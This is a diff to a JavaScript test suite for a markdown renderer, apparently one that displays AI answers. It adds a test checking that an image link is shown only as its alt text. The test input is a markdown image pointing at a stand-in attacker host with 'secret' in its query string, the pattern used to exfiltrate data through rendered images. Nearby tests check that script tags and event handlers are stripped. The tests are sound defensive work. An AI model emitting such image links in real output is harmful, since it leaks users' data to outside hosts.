@@ -61,6 +61,12 @@ describe('an answer that means harm', () => {
     expect(render(text)).not.toMatch(/<(?:img|script|iframe|style|object|form)\b|\son\w+=|(?:href|src)="(?!https?:)/i);
   });
 
+  it('shows the words of a picture in its place', () => {
+    expect(render('See ![a bridge](https://evil.test/?d=secret).')).toMatch(
+      /^<p>See (?:<span>)?a bridge(?:<\/span>)?\.<\/p>$/,
+    );
+  });
+
   it('has links that tell nobody where the reader came from', () => {
     expect(render('[it](https://a.test/)')).toContain(
       '<a href="https://a.test/" target="_blank" rel="noopener noreferrer nofollow">it</a>',
